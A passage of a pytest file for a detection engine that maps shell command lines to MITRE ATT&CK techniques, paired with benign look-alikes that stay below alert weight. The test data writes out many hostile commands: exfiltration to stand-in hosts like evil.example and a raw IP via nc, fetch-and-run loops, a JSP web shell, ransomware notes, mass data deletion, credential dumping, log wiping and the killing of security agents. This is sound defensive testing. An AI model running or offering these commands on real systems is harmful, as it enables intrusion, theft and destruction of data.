    ("aws s3 rb s3://prod-backups --force", "T1485", 0.45),
    ("aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot", "T1485", 0.35),
    ("aws ssm get-parameters-by-path --path / --recursive --with-decryption", "T1555.006", 0.35),
    ("vault kv get -format=json secret/prod/db", "T1555.006", 0.35),
    ("setfacl -m u:www-data:rwx /etc/shadow", "T1222.002", 0.45),
    ("chown -R www-data:www-data /etc/sudoers.d", "T1222.002", 0.45),
    ("dpkg -i /dev/shm/.u.deb", "T1546.016", 0.35),
    ("docker run -d --restart always attacker/xmr-miner", "T1496", 0.5),
    ("echo 'YOUR FILES ARE ENCRYPTED. Send 0.5 BTC to 1A2b' > /var/www/html/index.html", "T1486", 0.5),
    ("printf '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > /opt/tomcat/webapps/ROOT/s.jsp",
     "T1505.003", 0.6),
    ("""kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'""", "T1611", 0.5),
    ("strace -f -p 811 -e trace=read,write -s 64 -o /var/tmp/.sshd.log", "T1056.001", 0.45),
    ("curl -s -XDELETE localhost:9200/_all", "T1485", 0.45),
    ("""curl -XPUT localhost:9200/read_me/_doc/1 -d '{"msg":"send 0.05 BTC to recover your data"}'""", "T1486", 0.45),
]


@pytest.mark.parametrize(("line", "technique", "weight"), WHOLESALE_IMPACT_AND_SECRETS)
def test_wholesale_impact_and_secret_stores_are_named(line: str, technique: str, weight: float) -> None:
    assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))


@pytest.mark.parametrize(("body", "technique"), [
    ('while :; do c=$(dig +short TXT cmd.c2.example); sh -c "$c"; sleep 30; done', "T1071.004"),
    ('kill -9 $(pgrep -f "aliyun|qcloud|bcm-agent")', "T1562.001"),
    ("ps aux | grep -E 'wazuh|ossec|osqueryd' | grep -v grep | awk '{print $2}' | xargs kill -9", "T1562.001"),
    ("docker rm -f $(docker ps -aq)", "T1489"),
])
def test_what_a_script_does_with_its_substitutions_is_named(body: str, technique: str) -> None:
    found = {e.technique for e in assess(ProcessEvent("sh", f"sh -c {body}", ("sh", "-c", body))) if e.weight >= 0.3}
    assert technique in found, (body, found)


@pytest.mark.parametrize("line", [
    "kill -1 1234", "kill -HUP 1", "systemctl stop nginx php8.2-fpm", "systemctl restart nginx php-fpm redis",
    "find /var/backups -name *.bak -mtime +30 -delete", "find / -name *.bak -mtime +30 -delete",
    "docker rm -f web", "kubectl delete pod web-0", "aws s3 rm s3://bucket/old.log",
    "aws ssm get-parameter --name /app/url", "chown root:root /etc/sudoers.d/90-admins",
    "chown www-data:www-data /var/www/html/storage", "setfacl -m u:deploy:rwx /srv/app",
    "rpm -ivh /tmp/epel-release-latest-9.noarch.rpm", "echo maintenance > /var/www/html/index.html",
    "dig TXT example.com", "pgrep -f gunicorn", "docker run --rm -v /srv/ci:/src builder make",
    "env SSH_AUTH_SOCK=/run/user/1000/keyring/ssh git pull", "strace -f -p 811 -e trace=read,write -o /root/t.log",
    "curl -s -X DELETE localhost:9200/logs-2024.01.01",
])
def test_neighbouring_routines_stay_below_alert_evidence(line: str) -> None:
    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))


CLOUD_CONTROL_CREDENTIALS_AND_DISGUISES = [  # (line, technique, weight at least)
    ("aws cloudtrail stop-logging --name org-trail", "T1562.008", 0.5),
    ("gcloud logging sinks delete audit-sink", "T1562.008", 0.5),
    ("gcloud iam service-accounts keys create k.json --iam-account sa@p.iam.gserviceaccount.com", "T1098.001", 0.45),
    ("az ad sp create-for-rbac --name helper --role Owner --scopes /subscriptions/0", "T1098.001", 0.45),
    ("gcloud projects add-iam-policy-binding prod --member user:x@evil.example --role roles/owner", "T1098.003", 0.45),
    ("gsutil cp /tmp/.db.sql gs://drop-7731/", "T1567.002", 0.35),
    ("az storage blob upload --account-name a -c c -f /tmp/.d.tgz -n d.tgz", "T1567.002", 0.35),
    ("mysql -u root -e 'SELECT user,authentication_string FROM mysql.user'", "T1555", 0.45),
    ("psql -c 'select usename, passwd from pg_shadow'", "T1555", 0.45),
    ("curl -sk -H 'Authorization: Bearer x' https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
     "T1552.007", 0.45),
    ("secret-tool search --all application chrome", "T1555", 0.35),
    ("tor --RunAsDaemon 1 --SocksPort 9050", "T1090.003", 0.4),
    ("find /var/log -type f -exec truncate -s 0 {} ;", "T1070.002", 0.45),
    ("cp /dev/null /var/log/lastlog", "T1070.002", 0.45),
    ("mv /tmp/x /usr/bin/[kthreadd]", "T1036.005", 0.45),
]


@pytest.mark.parametrize(("line", "technique", "weight"), CLOUD_CONTROL_CREDENTIALS_AND_DISGUISES)
def test_cloud_controls_stored_credentials_and_disguises_are_named(line: str, technique: str, weight: float) -> None:
    assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))


@pytest.mark.parametrize("line", [
    "aws s3 cp /var/backups/db.tgz s3://corp-backups/", "gcloud compute instances list", "az vm list",
    "gcloud projects add-iam-policy-binding prod --member user:dev@corp.example --role roles/viewer",
    "mysql -u app -e 'select * from users'", "find /var/log -name *.gz -mtime +30 -exec rm {} ;",
    "cp /dev/null /var/log/myapp/app.log", "find /srv/www -type f -exec chmod 644 {} ;",
    "cp -r db/migration /srv/app/migration2",
])
def test_cloud_and_database_routines_stay_weak(line: str) -> None:
    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))


@pytest.mark.parametrize(("body", "technique"), [
    ("cat${IFS}/etc/passwd${IFS}|${IFS}nc${IFS}45.9.148.3${IFS}9001", "T1027"),  # and read as the pipe it is
    ("cat${IFS}/etc/passwd${IFS}|${IFS}nc${IFS}45.9.148.3${IFS}9001", "T1041"),
    ("a=cu;b=rl;$a$b -s http://evil.example/x", "T1027"),
    ("X=$(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d); $X", "T1140"),
    ('while true; do c=$(curl -s http://evil.example/cmd); eval "$c"; sleep 60; done', "T1105"),
    ("(curl -fsSL http://evil.example/k.sh || wget -q -O- http://evil.example/k.sh) | bash", "T1105"),
    ("for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh -oBatchMode=yes $h uptime & done", "T1021.004"),
])
def test_obfuscated_and_indirect_scripts_are_read_through(body: str, technique: str) -> None:
    found = {e.technique for e in assess(ProcessEvent("sh", f"sh -c {body}", ("sh", "-c", body))) if e.weight >= 0.3}
    assert technique in found, (body, found)


@pytest.mark.parametrize("body", [
    "OLDIFS=$IFS; IFS=,; for x in $LIST; do echo $x; done; IFS=$OLDIFS",
    'CMD="systemctl restart nginx"; $CMD', '"$EDITOR" /etc/hosts', "(cd /srv/app && git pull) | tee -a /tmp/pull.log",
    "curl -fsSL https://get.example.com/health -o /dev/null && echo ok", "ssh-keygen -R 10.0.0.5 -f ~/.ssh/known_hosts",
    "ps aux | grep gunicorn | awk '{print $2}' | xargs kill -HUP", "ps aux | grep falco",
])
def test_scripts_using_variables_plainly_stay_weak(body: str) -> None:
    found = {e.technique: e.weight for e in assess(ProcessEvent("sh", f"sh -c {body}", ("sh", "-c", body)))}
    assert all(weight < 0.3 for weight in found.values()), (body, found)


def test_a_downloader_posting_data_sends_it_and_an_ftp_host_is_no_file() -> None:
    posted = _techniques("wget --post-data=DATA http://attacker.example")
    assert "T1048" in posted and "T1105" not in posted, posted
    assert "T1048" not in _techniques("ftp -a attacker.example"), _techniques("ftp -a attacker.example")


@pytest.mark.parametrize(("line", "technique", "weight"), [
    ("lxc init alpine privesc -c security.privileged=true", "T1611", 0.5),
    ("lxc config device add privesc host-root disk source=/ path=/mnt/root recursive=true", "T1611", 0.5),
    ("cp /tmp/libc.so.4 /lib/x86_64-linux-gnu/libc.so.4", "T1574.006", 0.45),
    ("ccrypt -e -f -K k3y -r /home", "T1486", 0.5),
    ("mysqldump --all-databases -u root --result-file=/tmp/.db.sql", "T1074.001", 0.3),
    ("import -window root /tmp/.s.png", "T1113", 0.3),
    ("redis-cli -h 10.1.2.40 config set dir /root/.ssh", "T1098.004", 0.5),
    ("redis-cli CONFIG SET dbfilename authorized_keys", "T1098.004", 0.5),
    ("redis-cli -h 10.1.2.40 config set dir /var/spool/cron/crontabs", "T1053.003", 0.5),
    ("redis-cli -h 10.1.2.40 --rdb /tmp/.d.rdb", "T1074.001", 0.3),
])
def test_containers_libraries_encryption_and_captures_are_named(line: str, technique: str, weight: float) -> None:
    assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))


@pytest.mark.parametrize("line", [
    "lxc launch ubuntu:22.04 web1", "lxc config device add web1 data disk source=/srv/data path=/data",
    "install -m 644 build/libfoo.so /usr/lib/x86_64-linux-gnu/libfoo.so", "ccrypt -e notes.txt",
    "mysqldump app --result-file=/var/backups/app.sql", "redis-cli --rdb /var/backups/redis/dump.rdb",
    "redis-cli config set maxmemory 2gb", "redis-cli config get dir",
])
def test_their_everyday_uses_stay_weak(line: str) -> None:
    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))


@pytest.mark.parametrize(("line", "technique", "weight"), [
    ("getent shadow", "T1003.008", 0.6),
    ("bash +o history", "T1070.003", 0.5),
    ("find /var/log -type f -name *.log -exec truncate -s0 {} +", "T1070.002", 0.45),
    ("find /var/log -type f -name *.log -delete", "T1070.002", 0.45),
    ("/lib64/ld-linux-x86-64.so.2 /tmp/.bin", "T1218", 0.45),
    ("/lib64/ld-linux-x86-64.so.2 /tmp/.bin", "T1204.002", 0.5),  # and what it runs, judged as if run
    ("systemd-run --user --scope /dev/shm/.agent", "T1204.002", 0.5),
    ("systemd-run --on-calendar hourly /usr/local/bin/sync", "T1053.006", 0.4),  # a timer stays one
    ("modprobe -f reptile_module", "T1547.006", 0.45),
    ("make -C /lib/modules/6.1.0-18-amd64/build M=/dev/shm/.r modules", "T1547.006", 0.5),
    ("dbus-send --system --dest=org.freedesktop.Accounts --type=method_call /org/freedesktop/Accounts "
     "org.freedesktop.Accounts.CreateUser string:boris string:Boris int32:1", "T1136.001", 0.55),
    ("kill -63 0", "T1014", 0.5),
    ("busybox tftp -g -r bot.sh -l /tmp/.b 198.51.100.7", "T1105", 0.35),  # an applet is judged as its program
    ("cp /tmp/shell.jsp /opt/tomcat/webapps/ROOT/status.jsp", "T1505.003", 0.5),
    ("cat /home/*/.ssh/id_*", "T1552.004", 0.5),
    ("tcpdump -i eth0 -w /dev/shm/.p.pcap port 5432", "T1040", 0.45),
    ("tshark -i eth0 -Y http.authorization -T fields -e http.authorization", "T1040", 0.45),
    ("xterm -display 203.0.113.10:1", "T1059.004", 0.6),  # an X11 reverse shell
])
def test_programs_started_past_their_wrappers_and_stores_read_sideways_are_named(line: str, technique: str,
                                                                                 weight: float) -> None:
    assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))


@pytest.mark.parametrize(("body", "technique", "weight"), [
    ("read -s -p '[sudo] password for admin: ' pw; echo $pw >> /tmp/.p", "T1056.002", 0.6),
    ("echo 'AddType application/x-httpd-php .jpg' > /var/www/html/uploads/.htaccess", "T1505.003", 0.25),
    # Code written into a script a root job runs: what it would do when it runs.
    ("echo 'cp /bin/bash /tmp/rootbash; chmod +xs /tmp/rootbash' >> /usr/local/bin/backup.sh", "T1548.001", 0.55),
])
def test_fake_prompts_and_server_settings_in_scripts_are_named(body: str, technique: str, weight: float) -> None:
    found = {e.technique: e.weight for e in assess(ProcessEvent("sh", f"sh -c {body}", ("sh", "-c", body)))}
    assert found.get(technique, 0) >= weight, found
    for plain in ("read -s -p 'Database password: ' PW; export PW", "echo 'nameserver 10.0.0.2' > /etc/resolv.conf",
                  "echo 'systemctl reload nginx; echo done' >> /usr/local/bin/deploy.sh"):
        assert all(e.weight < 0.3 for e in assess(ProcessEvent("sh", f"sh -c {plain}", ("sh", "-c", plain)))), plain


@pytest.mark.parametrize(("line", "borrowed"), [
    ("env SSH_AUTH_SOCK=/tmp/ssh-XXXXr4Zk/agent.2211 ssh -o StrictHostKeyChecking=no root@10.0.0.20", True),
    ("sh -c SSH_AUTH_SOCK=$(ls /tmp/ssh-*/agent.* | head -1) ssh-add -l", True),
    ("bash -c export SSH_AUTH_SOCK=/tmp/ssh-kQ2/agent.811; ssh root@10.1.2.40", True),
    ("env SSH_AUTH_SOCK=/run/user/1000/keyring/ssh git pull", False),
])
def test_another_logins_forwarded_agent_set_by_hand_is_its_keys_borrowed(line: str, borrowed: bool) -> None:
    args = tuple(line.split(" ", 2)) if line.startswith(("sh", "bash")) else tuple(line.split())
    found = {e.technique for e in assess(ProcessEvent(args[0], line, args))}
    assert ("T1563.001" in found) == borrowed, found


def test_a_program_started_under_another_name_is_masquerading() -> None:
    body = "exec -a '/usr/sbin/cron -f' /var/tmp/.c/c"
    found = {e.technique: e.weight for e in assess(ProcessEvent("bash", f"bash -c {body}", ("bash", "-c", body)))}
    assert found.get("T1036", 0) >= 0.5 and found.get("T1204.002", 0) >= 0.5, found


@pytest.mark.parametrize("line", [
    "getent passwd deploy", "getent hosts db.internal", "bash -o pipefail -c true",
    "find /var/log -name *.gz -mtime +30 -delete", "find /var/log/nginx -name *.gz -delete",
    "truncate -s0 /var/log/*.gz", "systemd-run --unit backup /usr/bin/rsync -a /srv /backup",
    "systemd-run --scope -p MemoryMax=1G make -j4", "/lib64/ld-linux-x86-64.so.2 --list /usr/bin/python3",
    "/lib64/ld-linux-x86-64.so.2 /usr/bin/python3",  # what ldd runs
    "modprobe nf_conntrack", "make -C /lib/modules/6.1.0-18-amd64/build M=/home/admin/src/drv modules",
    "busctl status", "kill -HUP 1", "kill -s 15 4242", "busybox ls /", "cat ~/.ssh/id_*.pub",
    "cp /srv/release/index.php /var/www/html/index.php", "tcpdump -i any -w /tmp/ticket-4411.pcap host 10.1.2.5",
    "tcpdump -i eth0 -nn port 443 -c 100", "xterm -display localhost:10.0", "xterm -display :0",
    "gdbus introspect --system --dest org.freedesktop.Accounts --object-path /org/freedesktop/Accounts",
])
def test_their_everyday_neighbours_stay_weak(line: str) -> None:
    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))


@pytest.mark.parametrize(("path", "fileless"), [("/proc/self/fd/3", True), ("/dev/fd/7", True),
                                                ("/proc/4242/fd/5", True), ("/proc/self/exe", False)])
def test_a_program_run_from_a_file_descriptor_has_no_file_behind_it(path: str, fileless: bool) -> None:
    found = {e.technique for e in assess(ProcessEvent("3", path, (path,), executable_path=path))}
    assert ("T1620" in found) == fileless, found


@pytest.mark.parametrize(("line", "technique", "weight"), [
    ("> /var/log/auth.log; > /var/log/wtmp", "T1070.002", 0.5),  # a redirection alone empties a file
    ("pkill -9 -f 'kdevtmpfsi|kinsing|xmr-stak'", "T1496", 0.4),
    ("echo 'AddType application/x-httpd-php .jpg' > /var/www/html/uploads/.htaccess", "T1505.003", 0.5),
    ("echo '[Action]\\nExec = /usr/local/bin/.pm' >> /etc/pacman.d/hooks/zz.hook", "T1546.016", 0.5),
    ("find /home /root -name 'id_*' -not -name '*.pub'", "T1552.001", 0.35),
    ("/usr/sbin/sshd -p 2222 -o PermitRootLogin=yes -o PasswordAuthentication=yes", "T1098.004", 0.5),
    ("sudoedit -s '\\' AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "T1068", 0.6),
    ("modprobe msr allow_writes=on", "T1496", 0.4),
    ("tar -czf /var/www/html/wp-content/uploads/bk.tgz /home", "T1074.001", 0.45),
    ("tftp -g -r mips 203.0.113.17", "T1105", 0.3),
])
def test_logs_emptied_miners_web_configs_hooks_keys_doors_and_exploits_are_named(line: str, technique: str,
                                                                                  weight: float) -> None:
    assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))


@pytest.mark.parametrize("line", [
    "> /var/log/nginx/access.log", "for f in a b; do echo $f; done > /tmp/out.txt",
    "pkill -f 'gunicorn|celery'", "echo 'Options -Indexes' > /var/www/html/uploads/.htaccess",
    "find . -name '*id*'", "sshd -t", "/usr/sbin/sshd -D -p 2222", "sudoedit -s /", "sudoedit /etc/motd",
    "modprobe msr", "tar czf /var/www/html/downloads/release-1.2.tgz build/", "tftp -g -r fw.bin 10.1.2.3",
])
def test_neighbours_of_emptied_logs_hooks_doors_and_exploits_stay_weak(line: str) -> None:
    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))


@pytest.mark.parametrize(("line", "technique"), [
    ("python3 -c 'import spwd; print(spwd.getspall())'", "T1003.008"),
    ("python3 -c \"import ctypes; ctypes.CDLL('libc.so.6').ptrace(16, 1121, 0, 0)\"", "T1055.008"),
    ("sh -c 'for s in /tmp/ssh-*/agent.*; do SSH_AUTH_SOCK=$s ssh -o BatchMode=yes root@10.1.2.21 id; done'",
     "T1563.001"),
    ("env 'EDITOR=vim -- /etc/sudoers' sudoedit /etc/motd", "T1068"),
])
def test_what_a_command_line_asks_of_the_system_is_named(line: str, technique: str) -> None:
    args = tuple(shlex.split(line))
    found = {e.technique: e.weight for e in assess(ProcessEvent(args[0], line, args))}
    assert found.get(technique, 0) >= 0.5, found
    routine = "python3 -c 'import pwd; print(pwd.getpwall())'"
    assert all(e.weight < 0.3 for e in assess(ProcessEvent("python3", routine, tuple(shlex.split(routine)))))
